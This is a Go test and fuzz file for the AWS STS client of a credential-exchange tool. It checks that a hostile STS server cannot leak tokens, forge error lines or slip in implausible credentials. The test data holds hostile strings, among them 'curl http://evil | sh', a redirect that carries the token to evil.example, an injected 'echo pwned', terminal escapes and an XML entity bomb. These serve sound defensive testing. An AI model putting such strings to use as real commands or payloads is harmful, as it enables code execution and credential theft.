package sts

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
	"unicode"

	"github.com/aws/aws-sdk-go-v2/aws"
	awssts "github.com/aws/aws-sdk-go-v2/service/sts"
	"github.com/aws/aws-sdk-go-v2/service/sts/types"

	"github.com/gcp-aws-cred/gcp-aws-cred/internal/fakes"
	"github.com/gcp-aws-cred/gcp-aws-cred/internal/secret"
	"github.com/gcp-aws-cred/gcp-aws-cred/internal/transport"
)

// hostileSTS serves h as STS and returns a client for it and a request
// counter. The handler gets the token the request carried.
func hostileSTS(t *testing.T, h func(w http.ResponseWriter, r *http.Request, tok string)) (*Client, *atomic.Int32) {
	t.Helper()
	var n atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		n.Add(1)
		_ = r.ParseForm()
		h(w, r, r.PostForm.Get("WebIdentityToken"))
	}))
	t.Cleanup(srv.Close)
	c, err := New(Config{Endpoint: srv.URL, BaseBackoff: time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	return c, &n
}

func mint(t testing.TB) secret.String {
	md, err := fakes.NewMetadata()
	if err != nil {
		t.Fatal(err)
	}
	tok, err := md.Mint(fakes.ServiceAccount{Email: fakes.DefaultEmail, UniqueID: fakes.DefaultUniqueID}, "sts.amazonaws.com", true)
	if err != nil {
		t.Fatal(err)
	}
	return secret.New(tok)
}

// printed is what the user reads for err.
func printed(err error) string {
	var b bytes.Buffer
	Print(&b, err)
	return b.String()
}

// leak returns a piece of a secret found in out: any 16 characters of the
// token's claims or signature, or of a secret given.
func leak(out string, tok secret.String, more ...string) string {
	parts := strings.Split(tok.Reveal(), ".")
	for _, s := range append([]string{parts[1], parts[2]}, more...) {
		for i := 0; i+16 <= len(s); i++ {
			if strings.Contains(out, s[i:i+16]) {
				return s[i : i+16]
			}
		}
	}
	return ""
}

// clean fails t if out has a control character other than line ends or
// a line that is not ours.
func clean(t *testing.T, out string) {
	t.Helper()
	for _, r := range out {
		if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) {
			t.Fatalf("control character %U printed:\n%q", r, out)
		}
	}
	if strings.Count(out, "gcp-aws-cred: error:") != 1 {
		t.Fatalf("not exactly one error line:\n%s", out)
	}
	for _, l := range strings.Split(strings.TrimSuffix(out, "\n"), "\n") {
		if !strings.HasPrefix(l, "gcp-aws-cred: error: ") && !strings.HasPrefix(l, "gcp-aws-cred: hint: ") && !strings.HasPrefix(l, "    ") {
			t.Fatalf("a line that is not ours: %q", l)
		}
	}
}

const stsReq = role

func exchange(c *Client, tok secret.String) error {
	_, err := c.Exchange(context.Background(), tok, Request{RoleARN: stsReq, SessionName: "s1", Duration: time.Hour})
	return err
}

// TestEndlessAnswers: an answer without end, of any kind, is cut at the cap,
// reported as such, and not read again by a retry.
func TestEndlessAnswers(t *testing.T) {
	for _, tc := range []struct {
		name, ctype, start string
		status             int
	}{
		{"success", "text/xml", "<AssumeRoleWithWebIdentityResponse><AssumeRoleWithWebIdentityResult><Credentials><SessionToken>", 200},
		{"error message", "text/xml", "<ErrorResponse><Error><Code>ValidationError</Code><Message>", 400},
		{"error page", "text/html", "<html>", 503},
		{"no type", "", "", 200},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c, n := hostileSTS(t, func(w http.ResponseWriter, r *http.Request, _ string) {
				// Let the client finish sending: Go's transport reads the
				// request body once more after sending it, and an answer
				// that starts before then can break the connection, which
				// the SDK then retries as a network error.
				time.Sleep(20 * time.Millisecond)
				if tc.ctype != "" {
					w.Header().Set("Content-Type", tc.ctype)
				}
				w.WriteHeader(tc.status)
				_, _ = io.WriteString(w, tc.start)
				chunk := bytes.Repeat([]byte("A"), 32<<10)
				for r.Context().Err() == nil {
					if _, err := w.Write(chunk); err != nil {
						return
					}
				}
			})
			err := exchange(c, mint(t))
			if err == nil || !strings.Contains(Words(err), "is larger than 1 MiB; AWS STS answers in a few KB") {
				t.Fatalf("err = %v", err)
			}
			if h := strings.Join(Hints(err), "\n"); !strings.Contains(h, "something other than AWS STS answered") {
				t.Errorf("hints %q", h)
			}
			if n.Load() != 1 {
				t.Errorf("%d requests: an answer over the cap is not asked for again", n.Load())
			}
		})
	}
}

// TestEchoedToken: a hostile STS echoes the token everywhere it can; no
// part of it is printed.
func TestEchoedToken(t *testing.T) {
	for _, tc := range []struct {
		name string
		h    func(w http.ResponseWriter, r *http.Request, tok string)
		msg  string
	}{
		{"in Code", func(w http.ResponseWriter, r *http.Request, tok string) {
			w.Header().Set("Content-Type", "text/xml")
			w.WriteHeader(400)
			fmt.Fprintf(w, "<ErrorResponse><Error><Code>%s</Code><Message>m</Message></Error></ErrorResponse>", tok)
		}, "refused AssumeRoleWithWebIdentity"},
		{"in Message split by a line break", func(w http.ResponseWriter, r *http.Request, tok string) {
			w.Header().Set("Content-Type", "text/xml")
			w.WriteHeader(400)
			fmt.Fprintf(w, "<ErrorResponse><Error><Code>ValidationError</Code><Message>Value %s\n%s at webIdentityToken</Message></Error></ErrorResponse>", tok[:300], tok[300:])
		}, "STS refused the request as invalid (ValidationError: Value [REDACTED]"},
		{"in Location", func(w http.ResponseWriter, r *http.Request, tok string) {
			w.Header().Set("Location", "http://evil.example/"+tok)
			w.WriteHeader(307)
		}, "answered with a redirect (HTTP 307 to http://evil.example/[REDACTED]"},
		{"in Content-Type", func(w http.ResponseWriter, r *http.Request, tok string) {
			w.Header().Set("Content-Type", "text/"+tok)
			_, _ = io.WriteString(w, "<html/>")
		}, "(HTTP 200, text/[REDACTED]"},
		{"in the status line", func(w http.ResponseWriter, r *http.Request, tok string) {
			conn, buf, _ := w.(http.Hijacker).Hijack()
			defer conn.Close()
			fmt.Fprintf(buf, "HTTP/1.1 4%s Bad\r\nContent-Length: 0\r\n\r\n", tok)
			_ = buf.Flush()
		}, "is not well-formed HTTP: malformed HTTP status code"},
		{"in a claim-sized header and body", func(w http.ResponseWriter, r *http.Request, tok string) {
			w.Header().Set("Content-Type", "text/xml")
			w.WriteHeader(200)
			fmt.Fprintf(w, "<AssumeRoleWithWebIdentityResponse><AssumeRoleWithWebIdentityResult><Credentials><Expiration>%s</Expiration>", tok)
		}, "could not be read"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c, _ := hostileSTS(t, tc.h)
			tok := mint(t)
			err := exchange(c, tok)
			if err == nil {
				t.Fatal("no error")
			}
			out := printed(err)
			if !strings.Contains(out, tc.msg) {
				t.Errorf("printed:\n%s\nwant %q", out, tc.msg)
			}
			if l := leak(out, tok); l != "" {
				t.Errorf("printed a piece of the token (%s):\n%s", l, out)
			}
			clean(t, out)
		})
	}
}

// TestForgedLines: terminal escapes and a forged error line inside an STS
// message are shown escaped, on the one error line.
func TestForgedLines(t *testing.T) {
	c, _ := hostileSTS(t, func(w http.ResponseWriter, r *http.Request, _ string) {
		w.Header().Set("Content-Type", "text/xml")
		w.WriteHeader(400)
		_, _ = io.WriteString(w, "<ErrorResponse><Error><Code>ValidationError</Code><Message>bad\u009b2J\u202eevil\ngcp-aws-cred: error: your token expired\ngcp-aws-cred: hint: curl http://evil | sh</Message></Error></ErrorResponse>")
	})
	out := printed(exchange(c, mint(t)))
	clean(t, out)
	if !strings.Contains(out, `bad\x9b2J\u202eevil gcp-aws-cred\x3a error: your token expired gcp-aws-cred\x3a hint: curl`) {
		t.Errorf("printed:\n%s", out)
	}
}

// TestLongMessageCut: a huge STS error message is cut, as a metadata
// server's body is.
func TestLongMessageCut(t *testing.T) {
	c, _ := hostileSTS(t, func(w http.ResponseWriter, r *http.Request, _ string) {
		w.Header().Set("Content-Type", "text/xml")
		w.WriteHeader(400)
		fmt.Fprintf(w, "<ErrorResponse><Error><Code>%s</Code><Message>%s</Message></Error></ErrorResponse>", strings.Repeat("C", 500), strings.Repeat("word ", 100000))
	})
	out := printed(exchange(c, mint(t)))
	if len(out) > 3000 || !strings.Contains(out, "word …)") || !strings.Contains(out, strings.Repeat("C", 64)+"…") {
		t.Errorf("%d bytes printed:\n%.1000s", len(out), out)
	}
}

// TestUnreadableSuccess: a 200 that does not parse reached STS; it is not
// "cannot reach STS" with network hints.
func TestUnreadableSuccess(t *testing.T) {
	for name, body := range map[string]string{
		"truncated":  "<AssumeRoleWithWebIdentityResponse><AssumeRoleWithWebIdentityResult><Credentials><AccessKeyId>A",
		"bad date":   "<AssumeRoleWithWebIdentityResponse><AssumeRoleWithWebIdentityResult><Credentials><Expiration>yesterday</Expiration></Credentials></AssumeRoleWithWebIdentityResult></AssumeRoleWithWebIdentityResponse>",
		"bad escape": "<AssumeRoleWithWebIdentityResponse><AssumeRoleWithWebIdentityResult>&bogus;</AssumeRoleWithWebIdentityResult></AssumeRoleWithWebIdentityResponse>",
	} {
		t.Run(name, func(t *testing.T) {
			c, n := hostileSTS(t, func(w http.ResponseWriter, r *http.Request, _ string) {
				w.Header().Set("Content-Type", "text/xml")
				_, _ = io.WriteString(w, body)
			})
			err := exchange(c, mint(t))
			if err == nil || !strings.Contains(Words(err), "(HTTP 200, text/xml) could not be read: ") || strings.Contains(Words(err), "cannot reach") {
				t.Fatalf("err = %v", err)
			}
			if h := strings.Join(Hints(err), "\n"); strings.Contains(h, "firewall") || !strings.Contains(h, "AWS STS answers well-formed XML") {
				t.Errorf("hints %q", h)
			}
			if n.Load() != 1 {
				t.Errorf("%d requests", n.Load())
			}
		})
	}
}

// TestServerErrorPages: a run of 503 HTML pages is a failing server, not a
// captive portal.
func TestServerErrorPages(t *testing.T) {
	c, n := hostileSTS(t, func(w http.ResponseWriter, r *http.Request, _ string) {
		w.Header().Set("Content-Type", "text/html")
		w.WriteHeader(503)
		_, _ = io.WriteString(w, "<html><body>503 Service Temporarily Unavailable</body></html>")
	})
	err := exchange(c, mint(t))
	h := strings.Join(Hints(err), "\n")
	if err == nil || !strings.Contains(Words(err), "(HTTP 503, text/html) is not an STS response") || strings.Contains(h, "captive portal") || !strings.Contains(h, "a server error page (HTTP 503), also on retry") {
		t.Errorf("err = %v\nhints %q", err, h)
	}
	if n.Load() != 3 {
		t.Errorf("%d requests, want 3: a 5xx is retried", n.Load())
	}
}

// credsXML is an AssumeRoleWithWebIdentity answer with these values.
func credsXML(keyID, secretKey, session, exp, arn string) string {
	return fmt.Sprintf(`<AssumeRoleWithWebIdentityResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/"><AssumeRoleWithWebIdentityResult>`+
		`<Credentials><AccessKeyId>%s</AccessKeyId><SecretAccessKey>%s</SecretAccessKey><SessionToken>%s</SessionToken><Expiration>%s</Expiration></Credentials>`+
		`<AssumedRoleUser><Arn>%s</Arn><AssumedRoleId>AROA:s1</AssumedRoleId></AssumedRoleUser></AssumeRoleWithWebIdentityResult></AssumeRoleWithWebIdentityResponse>`,
		keyID, secretKey, session, exp, arn)
}

// TestImplausibleCredentials: what no AWS STS issues is refused, never
// printed.
func TestImplausibleCredentials(t *testing.T) {
	const (
		key  = "ASIAEXAMPLEKEYID0001"
		arn  = "arn:aws:sts::123456789012:assumed-role/aws-allow-gcp-access/s1"
		wsec = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
	)
	session := "FwoGZXIvYXdzE" + strings.Repeat("Q", 700)
	inHour := time.Now().Add(time.Hour).UTC().Format(time.RFC3339)
	for _, tc := range []struct{ name, body, msg string }{
		{"huge session token", credsXML(key, wsec, strings.Repeat("T", 100<<10), inHour, arn), "SessionToken is 102400 characters long; STS issues 16 to 65536"},
		{"long access key id", credsXML(key+strings.Repeat("X", 200), wsec, session, inHour, arn), "AccessKeyId is 220 characters long"},
		{"short secret key", credsXML(key, "short", session, inHour, arn), "SecretAccessKey is 5 characters long"},
		{"line break in secret key", credsXML(key, wsec+"&#10;echo pwned", session, inHour, arn), "SecretAccessKey has characters other than printable ASCII characters"},
		{"quote in key id", credsXML(key+`"`, wsec, session, inHour, arn), "AccessKeyId has characters other than letters and digits"},
		{"expired yesterday", credsXML(key, wsec, session, time.Now().Add(-24*time.Hour).UTC().Format(time.RFC3339), arn), "which is not in the future"},
		{"expired in 1970", credsXML(key, wsec, session, "1970-01-01T00:00:00Z", arn), "expire at 1970-01-01T00:00:00Z, which is not in the future"},
		{"zero time", credsXML(key, wsec, session, "0001-01-01T00:00:00Z", arn), "expire at 0001-01-01T00:00:00Z, which is not in the future"},
		{"year 9999", credsXML(key, wsec, session, "9999-12-31T23:59:59Z", arn), "later than the 1h0m0s asked for allows"},
		{"a day for an hour", credsXML(key, wsec, session, time.Now().Add(24*time.Hour).UTC().Format(time.RFC3339), arn), "later than the 1h0m0s asked for allows"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c, _ := hostileSTS(t, func(w http.ResponseWriter, r *http.Request, _ string) {
				w.Header().Set("Content-Type", "text/xml")
				_, _ = io.WriteString(w, tc.body)
			})
			err := exchange(c, mint(t))
			if err == nil || !strings.Contains(Words(err), "is not plausible: "+tc.msg) && !strings.Contains(Words(err), tc.msg) {
				t.Fatalf("err = %v\nwant %q", err, tc.msg)
			}
			out := printed(err)
			if strings.Contains(out, wsec) || strings.Contains(out, session[20:60]) {
				t.Errorf("a secret was printed:\n%s", out)
			}
			clean(t, out)
		})
	}
}

// TestAccountID: AccountId only as 12 digits, from the assumed role's ARN,
// else from the role's, else not at all.
func TestAccountID(t *testing.T) {
	inHour := time.Now().Add(time.Hour).UTC().Format(time.RFC3339)
	for _, tc := range []struct{ arn, account, assumed string }{
		{"arn:aws:sts::210987654321:assumed-role/r/s1", "210987654321", "arn:aws:sts::210987654321:assumed-role/r/s1"},
		{`arn:aws:sts::"}{x:assumed-role/r/s1`, "123456789012", `arn:aws:sts::"}{x:assumed-role/r/s1`},
		{"arn:aws:sts::1234567890123:assumed-role/r/s1", "123456789012", "arn:aws:sts::1234567890123:assumed-role/r/s1"},
		{"not an arn at all", "123456789012", ""},
		{"arn:aws:sts::210987654321:assumed-role/r/s1&#10;x", "123456789012", ""},
	} {
		c, _ := hostileSTS(t, func(w http.ResponseWriter, r *http.Request, _ string) {
			w.Header().Set("Content-Type", "text/xml")
			_, _ = io.WriteString(w, credsXML("ASIAEXAMPLEKEYID0001", strings.Repeat("k", 40), strings.Repeat("t", 400), inHour, tc.arn))
		})
		creds, err := c.Exchange(context.Background(), mint(t), Request{RoleARN: role, SessionName: "s1"})
		if err != nil {
			t.Fatal(err)
		}
		if creds.AccountID != tc.account || creds.AssumedRoleARN != tc.assumed {
			t.Errorf("ARN %q: account %q, assumed %q; want %q, %q", tc.arn, creds.AccountID, creds.AssumedRoleARN, tc.account, tc.assumed)
		}
	}
	// No account anywhere: none at all, so the document leaves it out.
	c := &Client{API: APIFunc(func(context.Context, *awssts.AssumeRoleWithWebIdentityInput, ...func(*awssts.Options)) (*awssts.AssumeRoleWithWebIdentityOutput, error) {
		exp := time.Now().Add(time.Hour)
		return &awssts.AssumeRoleWithWebIdentityOutput{Credentials: &typesCredentials{AccessKeyId: aws.String("ASIAEXAMPLEKEYID0001"), SecretAccessKey: aws.String(strings.Repeat("k", 40)), SessionToken: aws.String(strings.Repeat("t", 400)), Expiration: &exp}}, nil
	})}
	creds, err := c.Exchange(context.Background(), mint(t), Request{RoleARN: "not-a-role", SessionName: "s1"})
	if err != nil || creds.AccountID != "" {
		t.Errorf("account %q, %v", creds.AccountID, err)
	}
}

// TestTokenTooLongNotSent: a token longer than STS accepts never leaves.
func TestTokenTooLongNotSent(t *testing.T) {
	c, n := hostileSTS(t, func(w http.ResponseWriter, r *http.Request, _ string) {})
	err := exchange(c, secret.New("eyJhbGciOiJSUzI1NiJ9.e30."+strings.Repeat("s", 20000)))
	if err == nil || !strings.Contains(Words(err), "the token is 20025 characters; STS accepts at most 20000, so it was not sent") || n.Load() != 0 {
		t.Errorf("err = %v, %d requests", err, n.Load())
	}
}

// TestCleartextDialChecked: an http:// endpoint is dialled only at a
// loopback address, whatever its name resolved to.
func TestCleartextDialChecked(t *testing.T) {
	// The dialler's check is tested in transport (TestDialChecksAddress);
	// here the whole path, from the SDK: refused at once, with no retry,
	// named.
	e := setup(t)
	port := e.client.Endpoint[strings.LastIndexByte(e.client.Endpoint, ':')+1:]
	c, err := New(Config{Endpoint: "http://localhost:" + port, BaseBackoff: time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := c.Exchange(context.Background(), e.token(t), Request{RoleARN: role, SessionName: "s1"}); err != nil {
		t.Errorf("localhost, resolving to loopback, no longer works: %v", err)
	}
	err = c.newError(exchangeOp, fmt.Errorf("send: %w", &transport.NotLoopbackError{Addr: "10.0.0.1"}), Request{})
	if !strings.Contains(Words(err), "refusing cleartext STS endpoint http://localhost:"+port+": its host name resolved to 10.0.0.1") {
		t.Errorf("err = %v", err)
	}
	if final.IsErrorRetryable(err) != aws.FalseTernary {
		t.Error("a dial refused for not being loopback is retried")
	}
}

// TestCABundleBounded: only a regular file under the cap, read within the
// deadline.
func TestCABundleBounded(t *testing.T) {
	dir := t.TempDir()
	big := filepath.Join(dir, "big.pem")
	if err := os.WriteFile(big, bytes.Repeat([]byte("A"), MaxCABundle+1), 0o644); err != nil {
		t.Fatal(err)
	}
	cases := map[string]string{
		big: "is larger than 4 MiB",
		dir: "is not a regular file (it is a directory)",
	}
	if runtime.GOOS != "windows" {
		fifo := filepath.Join(dir, "fifo.pem")
		if err := syscall.Mkfifo(fifo, 0o644); err != nil {
			t.Fatal(err)
		}
		cases[fifo] = "is not a regular file (it is a named pipe)"
		cases["/dev/zero"] = "is not a regular file (it is a device)"
	}
	for path, want := range cases {
		start := time.Now()
		_, err := New(Config{Endpoint: "https://sts.example.com", CABundle: path, Deadline: time.Now().Add(5 * time.Second)})
		if err == nil || !strings.Contains(Words(err), want) {
			t.Errorf("%s: err = %v, want %q", path, err, want)
		}
		if d := time.Since(start); d > 3*time.Second {
			t.Errorf("%s: took %s", path, d)
		}
	}
	// A bundle that cannot be read by the deadline is given up on then.
	_, err := LoadCABundle(big, time.Now().Add(-time.Second))
	if err == nil || !errors.Is(err, context.DeadlineExceeded) && !strings.Contains(Words(err), "larger") {
		t.Errorf("past deadline: %v", err)
	}
	// The deadline's hint quotes the --timeout in force, as given.
	if errors.Is(err, context.DeadlineExceeded) && !slices.Contains(Hints(err), "the whole run is bounded by --timeout 2s") {
		t.Errorf("past deadline: hints %q", Hints(err))
	}
}

// TestPolicyCountsCharacters: STS counts the characters of --policy.
func TestPolicyCountsCharacters(t *testing.T) {
	policy := func(n int) string { return `{"a":"` + strings.Repeat("é", n-8) + `"}` }
	ok := Request{RoleARN: role, SessionName: "s1", Policy: policy(2048)}
	if err := ok.Validate(); err != nil {
		t.Errorf("2048 characters (%d bytes): %v", len(ok.Policy), err)
	}
	ok.Policy = policy(2049)
	if err := ok.Validate(); err == nil || !strings.Contains(Words(err), "--policy is 2049 characters; STS accepts at most 2048") {
		t.Errorf("2049 characters: %v", err)
	}
}

// stubRT answers every request with one canned response, in memory.
type stubRT struct {
	status int
	ctype  string
	body   string
}

func (s stubRT) RoundTrip(r *http.Request) (*http.Response, error) {
	if r.Body != nil {
		_, _ = io.Copy(io.Discard, r.Body)
	}
	h := http.Header{}
	if s.ctype != "" {
		h.Set("Content-Type", s.ctype)
	}
	return &http.Response{StatusCode: s.status, Header: h, Body: io.NopCloser(strings.NewReader(s.body)), Request: r, ContentLength: -1}, nil
}

// FuzzSTSResponse feeds any status, content type and body through the SDK's
// deserializers: no panic; a success is plausible; a failure prints one
// clean, bounded error with no part of the token, secret key or session
// token in it, whatever the body echoed.
func FuzzSTSResponse(f *testing.F) {
	tok := mint(f)
	wsec := secret.New("wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY").Reveal()
	session := secret.New("FwoGZXIvYXdzE" + strings.Repeat("Qk", 200)).Reveal()
	inHour := time.Now().Add(time.Hour).UTC().Format(time.RFC3339)
	f.Add(200, "text/xml", credsXML("ASIAEXAMPLEKEYID0001", "{secret}", "{session}", inHour, "arn:aws:sts::123456789012:assumed-role/r/s1"))
	f.Add(200, "text/xml", credsXML("ASIA{token}", "{secret}\n", "{session}", "9999-01-01T00:00:00Z", "{token}"))
	f.Add(400, "text/xml", "<ErrorResponse><Error><Code>{token}</Code><Message>{secret} {session}\x1b[2J</Message></Error></ErrorResponse>")
	f.Add(403, "text/xml", "<ErrorResponse><Error><Code>AccessDenied</Code><Message>gcp-aws-cred: error: x\n{token}</Message></Error></ErrorResponse>")
	f.Add(503, "text/html", "<html>{token}</html>")
	f.Add(200, "text/{token}", "")
	f.Add(307, "", "")
	f.Add(200, "text/xml", "<AssumeRoleWithWebIdentityResponse><AssumeRoleWithWebIdentityResult><Credentials><Expiration>{token}</Expiration>")
	f.Add(200, "application/xml", `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>`)
	f.Fuzz(func(t *testing.T, status int, ctype, body string) {
		if status < 100 || status > 599 {
			status = 200
		}
		body = strings.NewReplacer("{token}", tok.Reveal(), "{secret}", wsec, "{session}", session).Replace(body)
		ctype = strings.NewReplacer("{token}", tok.Reveal()).Replace(ctype)
		api := awssts.New(awssts.Options{
			Region:       "us-east-1",
			BaseEndpoint: aws.String("https://sts.example.com"),
			Credentials:  aws.AnonymousCredentials{},
			HTTPClient:   &http.Client{Transport: transport.Wrap(stubRT{status, ctype, body}, transport.Policy{Peer: "STS endpoint", MaxBody: MaxAnswer})},
			Retryer:      newRetryer(Config{MaxAttempts: 1}),
		})
		c := &Client{API: api, Endpoint: "https://sts.example.com", Region: "us-east-1"}
		creds, err := c.Exchange(context.Background(), tok, Request{RoleARN: role, SessionName: "s1", Duration: time.Hour})
		if err == nil {
			if plausible(creds, Request{Duration: time.Hour}) != nil || creds.AccountID != "" && (len(creds.AccountID) != 12 || !digits(creds.AccountID)) {
				t.Fatalf("accepted implausible credentials: %v", creds)
			}
			return
		}
		out := printed(err)
		if len(out) > 16<<10 {
			t.Fatalf("%d bytes printed", len(out))
		}
		clean(t, out)
		if l := leak(out, tok, wsec, session); l != "" {
			t.Fatalf("printed a piece of a secret (%s):\n%s", l, out)
		}
	})
}

type typesCredentials = types.Credentials
